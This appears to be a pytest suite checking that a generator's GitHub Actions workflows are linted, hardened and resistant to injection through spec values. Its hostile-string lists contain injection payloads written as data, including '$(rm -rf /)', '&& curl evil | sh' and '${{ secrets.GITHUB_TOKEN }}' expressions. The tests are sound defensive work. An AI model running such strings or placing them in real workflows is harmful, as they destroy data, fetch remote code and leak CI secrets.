"""The generated GitHub Actions workflows are valid, hardened, and immune to spec values (issue 4).

Compiled into temporary copies: every example that targets GitHub and the benchmark
generator's project with 12 models (which has Kubernetes-runner models).  For each:

* actionlint (``.tools/bin``, from ``make tools``: a missing tool fails, never skips),
  ``zizmor --offline`` at the default persona with no findings (with docs/zizmor.yml, which
  turns off the two audits a local reusable workflow trips; docs/ci.md says why), and
  ``check-jsonschema --builtin-schema vendor.github-workflows`` accept every workflow;
* the hardening rules, read from the parsed YAML: ``contents: read`` at workflow level,
  widened only by the jobs named ``promote`` and by a caller's job, whose permissions are only
  the ceiling of the reusable pipeline it calls (where the same rules hold per job); actions
  pinned to full commit SHAs with the release in a comment; ``persist-credentials: false``;
  ``timeout-minutes`` on every job; a concurrency group per workflow; no ``${{`` inside
  ``run:``; the promotion job runs in the target GitHub environment.

Then hostile strings (``${{ secrets.X }}``, ``$(rm -rf /)``, backticks, newlines, ...) go
into training arguments, parameters and environment values, a data source version and the
model description: the workflow's structure and its set of GitHub expressions do not change,
each ``${{`` of a spec value is GitHub's escape ``${{ '${{' }}``, the values come out exactly
(after GitHub evaluates the escape), and the shell sees exactly the spec's arguments.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import event, given, settings
from hypothesis import strategies as st

from compile_helpers import EXAMPLES, ROOT, assert_not_in_git, copy_specs
from conftest import require_tool
from mlgitops.pipeline import compile_project, generate_files
from mlgitops.results import CompileResult

pytestmark = pytest.mark.external

WORKFLOWS = ".github/workflows"
ZIZMOR = [
    *("--offline", "--no-ignores", "--no-progress", "--color=never"),
    *("--config", str(ROOT / "docs/zizmor.yml")),
]
REUSABLE_TRAIN = f"{WORKFLOWS}/mlgitops-reusable-train.yml"
LOCAL_WORKFLOW = re.compile(r"^\./\.github/workflows/mlgitops-[a-z0-9-]+\.yml$")
BENCHMARK_MODELS = 12
ESCAPED = "${{ '${{' }}"  # GitHub evaluates this expression to the text "${{"
PINNED = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")
PIN_COMMENT = re.compile(r"uses: (\S+)  # v\d+\.\d+\.\d+$")


CLOUD_LOGINS = ("aws-actions/configure-aws-credentials@", "google-github-actions/auth@", "azure/login@")


def _ci_system(ci: object) -> object:
    """``spec.ci`` is a system's name or a mapping with ``system``."""
    return ci.get("system", "github") if isinstance(ci, dict) else ci


GITHUB_EXAMPLES = [
    p
    for p in EXAMPLES
    if _ci_system(yaml.safe_load((p / "mlgitops.yaml").read_text())["spec"]["ci"]) == "github"
]


def _compile(root: Path) -> Path:
    assert_not_in_git(root)
    result = compile_project(root, use_cache=False)
    shown = "\n".join(f"{d.location}: {d.code} {d.message}" for d in result.diagnostics)
    assert result.ok, f"{root.name} does not compile:\n{shown}"
    return root


@pytest.fixture(scope="module")
def projects(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """project id → root of a compiled temporary copy (examples with ci: github, and the benchmark)."""
    base = tmp_path_factory.mktemp("ci-github")
    out = {p.name: _compile(copy_specs(p, base / p.name)) for p in GITHUB_EXAMPLES}
    bench = base / f"benchmark-{BENCHMARK_MODELS}"
    subprocess.run(
        [sys.executable, str(ROOT / "benchmarks/generate.py"), str(BENCHMARK_MODELS), str(bench)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    runners = {
        yaml.safe_load(p.read_text())["spec"].get("training", {}).get("runner")
        for p in bench.rglob("models/**/*.yaml")
    }
    assert "kubernetes" in runners, "the benchmark project has no runner: kubernetes model any more"
    out[bench.name] = _compile(bench)
    return out


PROJECT_IDS = [p.name for p in GITHUB_EXAMPLES] + [f"benchmark-{BENCHMARK_MODELS}"]


def workflow_files(root: Path) -> list[Path]:
    files = sorted((root / WORKFLOWS).glob("*.yml"))
    assert files, f"{root.name} has no generated workflow"
    return files


def test_the_examples_cover_github() -> None:
    assert {p.name for p in GITHUB_EXAMPLES} >= {"quickstart", "platform"}


def _run(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(args, cwd=cwd, capture_output=True, text=True, timeout=300, check=False)


@pytest.mark.parametrize("project", PROJECT_IDS)
def test_actionlint_accepts_every_workflow(projects: dict[str, Path], project: str) -> None:
    root = projects[project]
    files = [p.relative_to(root).as_posix() for p in workflow_files(root)]
    run = _run([require_tool("actionlint"), "-no-color", *files], root)
    assert run.returncode == 0, f"actionlint:\n{run.stdout}{run.stderr}"


@pytest.mark.parametrize("project", PROJECT_IDS)
def test_zizmor_finds_nothing(projects: dict[str, Path], project: str) -> None:
    root = projects[project]
    workflow_files(root)
    zizmor = require_tool("zizmor")
    args = [zizmor, *ZIZMOR, WORKFLOWS]
    run = _run(args, root)
    assert run.returncode == 0, f"zizmor (exit {run.returncode}):\n{run.stdout}{run.stderr}"
    assert "No findings to report" in run.stdout + run.stderr


@pytest.mark.parametrize("project", PROJECT_IDS)
def test_workflows_match_the_github_schema(projects: dict[str, Path], project: str) -> None:
    root = projects[project]
    files = [str(p) for p in workflow_files(root)]
    run = _run(
        [require_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files], root
    )
    assert run.returncode == 0, f"check-jsonschema:\n{run.stdout}{run.stderr}"


def _steps(workflow: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    for job_id, job in workflow["jobs"].items():
        for step in job.get("steps", []):
            yield job_id, step


@pytest.mark.parametrize("project", PROJECT_IDS)
def test_workflows_are_hardened(projects: dict[str, Path], project: str) -> None:
    root = projects[project]
    problems: list[str] = []
    for path in workflow_files(root):
        text = path.read_text(encoding="utf-8")
        workflow = yaml.safe_load(text)
        name = path.name

        def problem(message: str, name: str = name) -> None:
            problems.append(f"{name}: {message}")

        if workflow.get("permissions") != {"contents": "read"}:
            problem(f"workflow permissions are {workflow.get('permissions')!r}, not contents: read")
        # A reusable workflow runs in its caller's run, under the caller's concurrency group.
        called_only = list(workflow["on"]) == ["workflow_call"]
        has_group = isinstance(workflow.get("concurrency"), dict) and workflow["concurrency"].get("group")
        if not called_only and not has_group:
            problem("no concurrency group")
        for job_id, job in workflow["jobs"].items():
            calls = job.get("uses")
            if calls is not None:
                if not LOCAL_WORKFLOW.fullmatch(calls):
                    problem(f"job {job_id} calls {calls!r}, not one of the project's own workflows")
            elif not (
                isinstance(job.get("timeout-minutes"), int)
                or job.get("timeout-minutes") == "${{ inputs.timeout-minutes }}"
            ):
                problem(f"job {job_id} has no timeout-minutes")
            permissions = job.get("permissions", {"contents": "read"})
            widened = permissions != {"contents": "read"}
            if permissions == {"contents": "read", "id-token": "write"}:
                # OpenID Connect, only for the job that logs in to a cloud to upload.
                logins = [
                    st.get("uses", "") for st in job["steps"] if st.get("uses", "").startswith(CLOUD_LOGINS)
                ]
                widened = job_id != "register" or not logins
            if job_id == "comment" and permissions == {"pull-requests": "write"}:
                # The sticky plan comment: a job that checks out nothing and runs no pull request code.
                widened = any("actions/checkout@" in st.get("uses", "") for st in job["steps"])
            if widened and job_id != "promote" and calls is None:
                problem(f"job {job_id} widens permissions to {job['permissions']!r}")
        for job_id, step in _steps(workflow):
            action = step.get("uses")
            if action is not None:
                if not PINNED.fullmatch(action):
                    problem(f"{job_id}: {action!r} is not pinned to a full commit SHA")
                if (
                    action.startswith("actions/checkout@")
                    and step.get("with", {}).get("persist-credentials") is not False
                ):
                    problem(f"{job_id}: checkout without persist-credentials: false")
            if "${{" in step.get("run", ""):
                problem(f"{job_id}: step {step.get('name')!r} has an expression in run:")
        for line in text.splitlines():
            if "uses:" in line and not PIN_COMMENT.search(line) and "./.github/workflows/" not in line:
                problem(f"no release comment on {line.strip()!r}")
        promote = workflow["jobs"].get("promote", {})
        if name == "mlgitops-promote.yml" and promote.get("environment") != "${{ inputs.environment }}":
            problem("the promotion job does not run in the target GitHub environment")
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("project", PROJECT_IDS)
def test_every_model_with_training_has_a_pipeline(projects: dict[str, Path], project: str) -> None:
    root = projects[project]
    trained = sorted(
        spec["metadata"]["name"]
        for spec in (yaml.safe_load(p.read_text()) for p in root.glob("models/**/*.yaml"))
        if spec["spec"].get("training") and spec["spec"].get("lifecycle", {}).get("stage") != "retired"
    )
    names = {p.name for p in workflow_files(root)}
    assert names >= {"mlgitops-validate.yml", "mlgitops-promote.yml"}
    assert ("mlgitops-reusable-train.yml" in names) == bool(trained)
    assert (
        sorted(n[len("mlgitops-train-") : -len(".yml")] for n in names if n.startswith("mlgitops-train-"))
        == trained
    )


# --- hostile strings ---------------------------------------------------------------------------

FIELDS = ("training_arg", "training_param", "training_env", "data_version", "description")
NASTY = [
    *("${{ secrets.X }}", "${{ github.event.issue.title }}", "${{", "}}", "${{ '${{' }}"),
    *("$(rm -rf /)", "`id`", "$HOME", "; echo pwned", "&& curl evil | sh", "'single'", '"double"', "\\"),
    *("a\nb", "\n", "x: y\nz: w", "---", "# comment", "{= project.name =}", "{% raw %}"),
    *("on", "1.10", " leading", "trailing ", "😀"),
]
PIECES = st.sampled_from(NASTY) | st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\n"), max_size=20
)
HOSTILE = st.lists(PIECES, min_size=1, max_size=6).map("".join).filter(bool)
VALUES = st.fixed_dictionaries(dict.fromkeys(FIELDS, HOSTILE))


def placeholder(field: str) -> str:
    return f"zzplaceholder-{field.replace('_', '-')}"


class _QuotingDumper(yaml.CSafeDumper):
    """Every string double-quoted, non-ASCII escaped: an independent writer for the specs."""


_QuotingDumper.add_representer(
    str, lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style='"')
)


def _write(path: Path, data: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    text = yaml.dump(data, Dumper=_QuotingDumper, sort_keys=False, allow_unicode=False, width=1 << 30)
    path.write_text(text, encoding="utf-8")


def hostile_project(root: Path, v: dict[str, str], runner: str) -> None:
    environments = [{"name": "dev", "namespace": "ml-dev"}, {"name": "prod", "namespace": "ml-prod"}]
    registry = {"kind": "mlflow", "trackingUri": "https://mlflow.acme.internal"}
    project = {"repository": "https://github.com/acme/hostile.git", "ci": "github", "gitops": "argocd"}
    project |= {"serving": "kserve", "registry": registry, "environments": environments}
    head = {"apiVersion": "mlgitops/v1", "kind": "Project", "metadata": {"name": "hostile"}}
    _write(root / "mlgitops.yaml", {**head, "spec": project})
    training = {"image": "ghcr.io/acme/train:1.0.0", "command": ["python", "-m", "train"]}
    training |= {"args": [v["training_arg"]], "params": {"note": v["training_param"]}}
    training |= {"env": {"NOTE": v["training_env"]}, "schedule": "0 3 * * 1", "runner": runner}
    model = {
        "data": [{"name": "events", "uri": "s3://acme-data/events/", "version": v["data_version"]}],
        "training": training,
        "evaluation": {"gates": [{"metric": "auc", "min": 0.9}]},
        "serving": {"runtime": "sklearn", "artifact": "s3://acme-models/{model}/{version}/"},
        "deployments": {"dev": {"version": "1.0.0"}, "prod": {"version": "1.0.0"}},
    }
    metadata = {"name": "victim", "owner": "team", "description": v["description"]}
    _write(root / "models/victim.yaml", {**head, "kind": "Model", "metadata": metadata, "spec": model})


def compile_hostile(values: dict[str, str], runner: str, keep: Path | None = None) -> CompileResult:
    """Compile in memory; with ``keep``, also write the specs there (for the external tools)."""
    if keep is not None:
        hostile_project(keep, values, runner)
        compiled = compile_project(keep, use_cache=False)  # streams to disk: the files, in memory too
        return generate_files(keep) if compiled.ok else compiled
    with tempfile.TemporaryDirectory(prefix="mlgitops-ci-hostile-") as tmp:
        hostile_project(Path(tmp), values, runner)
        return generate_files(Path(tmp))


TRAIN_WORKFLOW = f"{WORKFLOWS}/mlgitops-train-victim.yml"
JOB_MANIFEST = "deploy/dev/victim/training-job.yaml"
TRAIN_WORDS = "MLGITOPS_TRAIN_CMD_"


def workflows(result: CompileResult) -> dict[str, Any]:
    return {f.path: yaml.safe_load(f.content) for f in result.files if f.path.startswith(WORKFLOWS)}


def github_evaluates(text: str) -> str:
    """What GitHub makes of ``text``, given that its only expressions are the escape of ``${{``;
    fails on any other expression."""
    out: list[str] = []
    rest = text
    while (start := rest.find("${{")) >= 0:
        assert rest.startswith(ESCAPED, start), f"unescaped expression in {text!r}"
        out.append(rest[:start] + "${{")
        rest = rest[start + len(ESCAPED) :]
    return "".join(out) + rest


EXPRESSION = re.compile(r"\$\{\{.*?\}\}", re.DOTALL)


def expressions(node: Any) -> list[str]:
    """Every GitHub expression in keys and values, the escapes of spec values left out."""
    return [e for text in _strings(node) for e in EXPRESSION.findall(text.replace(ESCAPED, ""))]


def shape(node: Any) -> Any:
    """The structure of a document: keys and nesting kept, every string leaf the same."""
    if isinstance(node, dict):
        return {k: shape(v) for k, v in node.items()}
    if isinstance(node, list):
        return [shape(v) for v in node]
    return "<str>" if isinstance(node, str) else node


def step(workflow: dict[str, Any], job: str, name: str) -> dict[str, Any]:
    matches = [s for s in workflow["jobs"][job]["steps"] if s.get("name") == name]
    assert len(matches) == 1, f"no single step {name!r} in job {job}"
    return matches[0]


BASELINES = {
    runner: workflows(compile_hostile({f: placeholder(f) for f in FIELDS}, runner))
    for runner in ("ci", "kubernetes")
}


def test_the_hostile_fields_reach_the_workflow() -> None:
    """The test is not vacuous: the fields it attacks are in the training workflow (runner: ci)."""
    text = yaml.safe_dump(BASELINES["ci"][TRAIN_WORKFLOW])
    missing = [
        f
        for f in ("training_arg", "training_param", "training_env", "data_version")
        if placeholder(f) not in text
    ]
    assert not missing, f"no longer in the workflow: {missing}"


def check_hostile(values: dict[str, str], runner: str, result: CompileResult) -> None:
    actual = workflows(result)
    baseline = BASELINES[runner]
    assert sorted(actual) == sorted(baseline)
    for path, workflow in actual.items():
        assert shape(workflow) == shape(baseline[path]), f"{path}: the structure changed"
        trusted = expressions(baseline[path])
        assert sorted(expressions(workflow)) == sorted(trusted), f"{path}: the expressions changed"
        for text in (s for s in _strings(workflow) if "${{" in s):
            spec_text = text
            for expression in set(trusted):
                spec_text = spec_text.replace(expression, "")
            github_evaluates(spec_text)  # what is left came from spec values: each "${{" is the escape
    called = actual[TRAIN_WORKFLOW]["jobs"]["train"]["with"]
    # The model's values travel as one JSON object (the called jobs' env): GitHub evaluates
    # the escapes, then fromJSON reads exactly the spec's values.
    env = json.loads(github_evaluates(called["env"]))
    assert env["MLGITOPS_DATA_EVENTS_VERSION"] == values["data_version"]
    for job in actual[REUSABLE_TRAIN]["jobs"].values():
        for script in (s.get("run", "") for s in job.get("steps", [])):
            assert "${{" not in script, "an expression reached a script"
    if runner == "ci":
        assert env["NOTE"] == values["training_env"]
        words = sorted((int(k.rsplit("_", 1)[1]), v) for k, v in env.items() if k.startswith(TRAIN_WORDS))
        # the script runs "$MLGITOPS_TRAIN_CMD_0" "$MLGITOPS_TRAIN_CMD_1" ...: exactly the spec's words
        assert [word for _, word in words] == [
            "python",
            "-m",
            "train",
            values["training_arg"],
            f"--note={values['training_param']}",
        ]
    else:
        job = next(yaml.safe_load(f.content) for f in result.files if f.path == JOB_MANIFEST)
        container = job["spec"]["template"]["spec"]["containers"][0]
        assert container["args"] == [values["training_arg"], f"--note={values['training_param']}"]
        env = {e["name"]: e.get("value") for e in container["env"]}
        assert env["NOTE"] == values["training_env"]
        assert env["MLGITOPS_DATA_EVENTS_VERSION"] == values["data_version"]
        assert job["metadata"]["annotations"]["mlgitops.dev/description"] == values["description"]


def _strings(node: Any) -> Iterator[str]:
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(node, list):
        for v in node:
            yield from _strings(v)
    elif isinstance(node, str):
        yield node


@settings(max_examples=40, deadline=None)
@given(values=VALUES, runner=st.sampled_from(["ci", "kubernetes"]))
def test_hostile_strings_cannot_inject_into_workflows(values: dict[str, str], runner: str) -> None:
    result = compile_hostile(values, runner)
    if not result.ok:
        codes = {d.code for d in result.diagnostics if d.severity.value == "error"}
        assert codes == {"MLG310"}, [f"{d.location}: {d.code} {d.message}" for d in result.diagnostics]
        event("refused as a secret (MLG310)")
        return
    check_hostile(values, runner, result)


SAMPLES = [
    dict.fromkeys(FIELDS, "${{ secrets.X }}"),
    {
        "training_arg": "$(rm -rf /) `id` ${{ github.event.issue.title }}",
        "training_param": "a\nb: c\n${{ '${{' }}",
        "training_env": "'; echo ${{ secrets.GITHUB_TOKEN }} #",
        "data_version": "}} ${{ ${{",
        "description": "line\n---\nkind: Secret\n${{ env.X }}",
    },
]


@pytest.mark.parametrize("runner", ["ci", "kubernetes"])
@pytest.mark.parametrize("sample", range(len(SAMPLES)))
def test_hostile_workflows_still_pass_actionlint_and_zizmor(tmp_path: Path, sample: int, runner: str) -> None:
    values = SAMPLES[sample]
    result = compile_hostile(values, runner, keep=tmp_path)
    assert result.ok, [f"{d.code} {d.message}" for d in result.diagnostics]
    check_hostile(values, runner, result)
    files = [p.relative_to(tmp_path).as_posix() for p in workflow_files(tmp_path)]
    run = _run([require_tool("actionlint"), "-no-color", *files], tmp_path)
    assert run.returncode == 0, f"actionlint:\n{run.stdout}{run.stderr}"
    run = _run(
        [require_tool("zizmor"), *ZIZMOR, WORKFLOWS],
        tmp_path,
    )
    assert run.returncode == 0, f"zizmor (exit {run.returncode}):\n{run.stdout}{run.stderr}"
